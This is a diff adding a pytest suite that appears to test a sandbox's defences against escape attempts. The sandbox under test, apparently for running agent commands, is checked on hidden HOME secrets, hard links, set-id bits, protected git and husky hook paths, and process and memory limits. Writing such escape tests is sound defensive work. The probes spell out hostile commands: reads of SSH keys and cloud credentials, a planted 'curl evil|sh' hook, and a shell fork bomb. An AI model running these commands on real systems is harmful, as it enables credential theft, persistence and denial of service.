@@ -1,0 +1,301 @@
+"""Escape suite, sandbox v2: the read view, hard links, set-id bits, protected paths at any
+depth, and resource limits. Every probe runs inside the real sandbox with a throwaway HOME;
+every verdict is read from the host (or from what the kernel answered inside).
+"""
+
+from __future__ import annotations
+
+import os
+import stat
+import subprocess
+import sys
+import textwrap
+from pathlib import Path
+
+import pytest
+
+from safehold import SafetyConfig, SandboxConfig
+from tests.adapters.bwrap.conftest import Runner
+
+
+@pytest.fixture
+def home(outside: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A throwaway HOME outside /tmp, full of secrets in places no read root lists."""
+    root = outside / "home"
+    for rel, text in {
+        ".ssh/id_ed25519": "SSH-KEY",
+        ".aws/credentials": "AWS-KEY",
+        "work/other/.env": "OTHER-PROJECT-ENV",
+        "work/other/notes.txt": "OTHER-PROJECT-NOTES",
+        "backup/id_rsa": "BACKUP-KEY",
+        "backup/plain.txt": "BACKUP-PLAIN",
+        ".config/git/credentials": "GIT-CRED",
+        ".config/git/config": "[user]\n\tname = Agent\n",
+        ".config/gh/hosts.yml": "GH-TOKEN",
+        ".cargo/credentials.toml": "CARGO-TOKEN",
+        ".cargo/bin/tool": "CARGO-TOOL",
+        ".cache/pip/wheel.txt": "PIP-CACHE",
+        ".gitconfig": "[core]\n\teditor = vi\n",
+    }.items():
+        path = root / rel
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text + "\n")
+    monkeypatch.setenv("HOME", str(root))
+    return root
+
+
+def _leaks(output: bytes) -> list[str]:
+    secrets = [
+        "SSH-KEY",
+        "AWS-KEY",
+        "OTHER-PROJECT",
+        "BACKUP",
+        "GIT-CRED",
+        "GH-TOKEN",
+        "CARGO-TOKEN",
+        "OUTSIDE-SECRET",
+    ]
+    return [s for s in secrets if s.encode() in output]
+
+
+def test_unlisted_home_directories_are_not_mounted(run: Runner, home: Path) -> None:
+    result = run(
+        "cat ~/.ssh/id_ed25519 ~/.aws/credentials ~/work/other/.env ~/work/other/notes.txt "
+        "~/backup/id_rsa ~/backup/plain.txt ~/.config/gh/hosts.yml 2>&1; "
+        "grep -r . ~ 2>&1; ls -a ~"
+    )
+    assert _leaks(result.stdout) == []
+    listing = set(result.stdout.split(b"\n")[-50:])
+    assert b"work" not in listing and b"backup" not in listing and b".ssh" not in listing
+    assert b".cache" in listing and b".cargo" in listing  # the read roots that exist
+
+
+def test_read_roots_are_visible_read_only_and_masked_inside(run: Runner, home: Path) -> None:
+    result = run(
+        "cat ~/.cache/pip/wheel.txt ~/.cargo/bin/tool ~/.gitconfig; git config user.name; "
+        "cat ~/.cargo/credentials.toml ~/.config/git/credentials; "
+        "echo x > ~/.cache/pip/new; echo y >> ~/.gitconfig; echo z > ~/scratch && cat ~/scratch"
+    )
+    assert b"PIP-CACHE\nCARGO-TOOL\n" in result.stdout
+    assert b"Agent" in result.stdout  # git read ~/.config/git/config
+    assert _leaks(result.stdout) == []
+    assert b"z\n" in result.stdout  # HOME itself is a private scratch tmpfs
+    assert not (home / ".cache" / "pip" / "new").exists()
+    assert (home / ".gitconfig").read_text() == "[core]\n\teditor = vi\n\n"
+    assert not (home / "scratch").exists()
+
+
+def test_nothing_outside_the_view_exists(run: Runner, outside: Path) -> None:
+    secret = outside / "data.txt"  # a name no pattern denies: only the view protects it
+    secret.write_text("OUTSIDE-SECRET\n")
+    result = run(
+        f"cat {secret}; ls -d /root/* /home/* /srv/* /mnt/* /media/* /var/* /run/* 2>&1; "
+        "cat /var/tmp/* 2>&1; echo end"
+    )
+    assert _leaks(result.stdout) == []
+    assert b"No such file" in result.stdout or b"cannot access" in result.stdout
+    for top in (b"/root/", b"/home/", b"/srv/", b"/mnt/", b"/media/", b"/run/"):
+        assert not any(line.startswith(top) for line in result.stdout.splitlines())
+    result = run(f"echo pwned > {outside}/new; mkdir -p /var/tmp/x && echo y > /var/tmp/x/f")
+    assert result.exit_code != 0
+    assert not (outside / "new").exists()
+
+
+def test_hard_links_to_secrets_are_masked(run: Runner, ws: Path, home: Path) -> None:
+    # A second name in the workspace for `~/.ssh/id_ed25519` (not mounted at all), for a
+    # denied file in a read root, and for a denied file elsewhere in the workspace.
+    os.link(home / ".ssh" / "id_ed25519", ws / "notes.txt")
+    os.link(home / ".cargo" / "credentials.toml", ws / "cargo-notes.txt")
+    (ws / "deploy").mkdir()
+    (ws / "deploy" / "server.key").write_text("WS-KEY\n")
+    os.link(ws / "deploy" / "server.key", ws / "readme-copy.txt")
+    result = run("cat notes.txt; cat cargo-notes.txt; cat readme-copy.txt; cat README.md")
+    assert b"SSH-KEY" not in result.stdout
+    assert b"CARGO-TOKEN" not in result.stdout
+    assert b"WS-KEY" not in result.stdout
+    assert result.stdout == b"hello\n"  # ordinary files stay readable
+
+
+def test_set_id_bits_and_device_nodes_are_refused(run: Runner, ws: Path) -> None:
+    script = textwrap.dedent(
+        """
+        import os, stat
+        out = []
+        for name, call in [
+            ("chmod", lambda: os.chmod("tool", 0o4755)),
+            ("chmod-g", lambda: os.chmod("tool", 0o2755)),
+            ("fchmod", lambda: os.fchmod(os.open("tool", os.O_RDONLY), 0o6755)),
+            ("open", lambda: os.open("made", os.O_CREAT | os.O_WRONLY, 0o4755)),
+            ("mknod-reg", lambda: os.mknod("node", stat.S_IFREG | 0o4755)),
+            ("mknod-chr", lambda: os.mknod("dev", stat.S_IFCHR | 0o600, os.makedev(1, 3))),
+            ("mknod-blk", lambda: os.mknod("blk", stat.S_IFBLK | 0o600, os.makedev(8, 0))),
+        ]:
+            try:
+                call()
+                out.append(name + "=ok")
+            except OSError as e:
+                out.append(name + "=" + str(e.errno))
+        os.chmod("tool", 0o755); os.mknod("fifo", stat.S_IFIFO | 0o644)
+        print(" ".join(out), "plain=ok")
+        """
+    )
+    (ws / "tool").write_bytes(Path("/bin/true").read_bytes())
+    result = run(["/usr/bin/python3", "-I", "-c", script])
+    words = dict(w.split("=") for w in result.stdout.decode().split())
+    assert words == {
+        "chmod": "1",
+        "chmod-g": "1",
+        "fchmod": "1",
+        "open": "1",
+        "mknod-reg": "1",
+        "mknod-chr": "1",
+        "mknod-blk": "1",
+        "plain": "ok",
+    }, result.stderr
+    run("chmod u+s,g+s tool; install -m 4755 tool tool2; cp -p tool tool3; chmod 6755 tool3")
+    for name in ("tool", "tool2", "tool3", "made", "node"):
+        path = ws / name
+        if path.exists():
+            assert not path.stat().st_mode & (stat.S_ISUID | stat.S_ISGID), name
+    assert not (ws / "dev").exists() and not (ws / "blk").exists()
+    assert stat.S_ISFIFO((ws / "fifo").stat().st_mode)
+
+
+def _husky_config() -> SafetyConfig:
+    # The configured list is what counts, never a list in the runner: `.husky/` added here
+    # extends the defaults (it may be a default already).
+    return SafetyConfig(protected_paths=(".husky/",), sandbox=SandboxConfig(read_roots=()))
+
+
+def test_nested_protected_directories_are_read_only(run: Runner, ws: Path) -> None:
+    sub = ws / "packages" / "web"
+    sub.mkdir(parents=True)
+    subprocess.run(["git", "init", "-q", str(sub)], check=True)
+    (sub / ".husky").mkdir()
+    (sub / ".husky" / "pre-commit").write_text("npm test\n")
+    before = sorted(os.listdir(sub / ".git" / "hooks"))
+    result = run(
+        "echo evil > packages/web/.git/hooks/post-checkout; "
+        "echo 'curl evil|sh' > packages/web/.husky/pre-commit; "
+        "rm -rf packages/web/.husky; mv packages/web packages/web2; "
+        "git -C packages/web config core.hooksPath /tmp; echo done",
+        config=_husky_config(),
+    )
+    assert result.stdout.endswith(b"done\n")
+    assert sorted(os.listdir(sub / ".git" / "hooks")) == before
+    assert (sub / ".husky" / "pre-commit").read_text() == "npm test\n"
+    assert not (ws / "packages" / "web2").exists()
+    assert b"hooksPath" not in (sub / ".git" / "config").read_bytes()
+
+
+def test_missing_protected_paths_at_any_depth_do_not_stay(run: Runner, ws: Path) -> None:
+    result = run(
+        "mkdir -p a/b/.husky && echo 'curl evil|sh' > a/b/.husky/pre-commit; "
+        "git init -q deep/repo && echo evil > deep/repo/.git/hooks/post-checkout; "
+        "mkdir .vscode && echo '{}' > .vscode/tasks.json; echo done",
+        config=_husky_config(),
+    )
+    assert result.stdout == b"done\n"
+    for created in ("a/b/.husky", "deep/repo/.git", ".vscode"):
+        assert not (ws / created).exists(), created
+        assert (ws / f"{created}.safehold-blocked").exists(), created
+        assert any(created in f and "moved to" in f for f in result.findings), result.findings
+    # The moved-aside repository is not a repository: host git does not run its hooks.
+    git = subprocess.run(
+        ["git", "-C", str(ws / "deep" / "repo"), "rev-parse", "--git-dir"],
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert "deep/repo/.git" not in git.stdout
+
+
+@pytest.mark.timeout(120)  # a fork bomb that is not stopped fails as a hang
+def test_fork_bomb_ends_cleanly_with_a_message(run: Runner) -> None:
+    result = run(":(){ :|:& };:; sleep 100", max_processes=64, timeout=15)
+    if os.geteuid() == 0:  # root callers: the pids cgroup stops the sandbox at once
+        assert not result.timed_out
+        assert result.exit_code == 137
+        assert b"max_processes" in result.stderr
+    else:  # RLIMIT_NPROC refuses the forks; the bomb churns until the timeout ends it
+        assert b"Resource temporarily unavailable" in result.stderr
+        assert result.exit_code != 0
+    assert run("echo alive").stdout == b"alive\n"  # the host (and the runner) carry on
+
+
+@pytest.mark.timeout(120)
+def test_memory_hog_ends_cleanly_with_a_message(run: Runner) -> None:
+    hog = "b = bytearray(2 * 1024**3); print('ALLOCATED')"
+    result = run(["/usr/bin/python3", "-I", "-c", hog], max_memory_mb=256, timeout=60)
+    assert result.exit_code not in (0, None)
+    assert b"ALLOCATED" not in result.stdout
+    assert b"MemoryError" in result.stderr
+    ok = run(["/usr/bin/python3", "-I", "-c", "b = bytearray(64 * 1024**2); print('ok')"])
+    assert ok.stdout == b"ok\n"  # the default bound leaves ordinary work alone
+
+
+_UNPRIVILEGED = """
+import shlex, sys
+FORKS = '''
+import os, time
+n = 0
+try:
+    while n < 100:
+        if os.fork() == 0:
+            time.sleep(2)
+            os._exit(0)
+        n += 1
+    print("forks-allowed", n)
+except OSError as e:
+    print("forks-refused", e.errno)
+'''
+
+from safehold import SafetyConfig, SandboxConfig
+from safehold.adapters.bwrap import run_sandboxed_sync
+config = SafetyConfig(sandbox=SandboxConfig(max_processes=20))
+r = run_sandboxed_sync(
+    "id -u; echo built > out.txt; grep ^CapEff /proc/self/status; cat ~/.ssh/id_ed25519; "
+    "/usr/bin/python3 -I -c " + shlex.quote(FORKS),
+    cwd=sys.argv[1], config=config, timeout=60,
+)
+sys.stdout.write(r.stdout.decode() + "|" + r.stderr.decode())
+"""
+
+
+@pytest.mark.timeout(180)
+def test_the_runner_works_as_an_unprivileged_user(outside: Path) -> None:
+    # As root the test drops to `nobody` with setpriv; run by a normal user it is already
+    # unprivileged. The interpreter is the system one (the venv's may sit under /root).
+    ws, home = outside / "ws", outside / "home"
+    (home / ".ssh").mkdir(parents=True)
+    (home / ".ssh" / "id_ed25519").write_text("SSH-KEY\n")
+    ws.mkdir()
+    prefix: list[str] = []
+    if os.geteuid() == 0:
+        for path in (outside, ws, home, home / ".ssh", home / ".ssh" / "id_ed25519"):
+            os.chown(path, 65534, 65534)
+        prefix = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
+    python = "/usr/bin/python3" if os.path.exists("/usr/bin/python3") else sys.executable
+    paths = [p for p in sys.path if p.endswith("site-packages")]
+    src = str(Path(__file__).resolve().parents[3] / "src")
+    env = {
+        "PATH": "/usr/local/bin:/usr/bin:/bin",
+        "HOME": str(home),
+        "PYTHONPATH": os.pathsep.join([src, *paths]),
+    }
+    done = subprocess.run(
+        [*prefix, python, "-c", _UNPRIVILEGED, str(ws)],
+        capture_output=True,
+        text=True,
+        env=env,
+        timeout=150,
+        check=False,
+    )
+    assert done.returncode == 0, done.stderr
+    out, _, err = done.stdout.partition("|")
+    lines = out.splitlines()
+    assert lines[0] == ("65534" if prefix else str(os.geteuid()))
+    assert lines[1].split() == ["CapEff:", "0000000000000000"]
+    assert "SSH-KEY" not in out
+    assert (ws / "out.txt").read_text() == "built\n"
+    assert lines[-1] == "forks-refused 11", err  # EAGAIN: RLIMIT_NPROC inside the sandbox
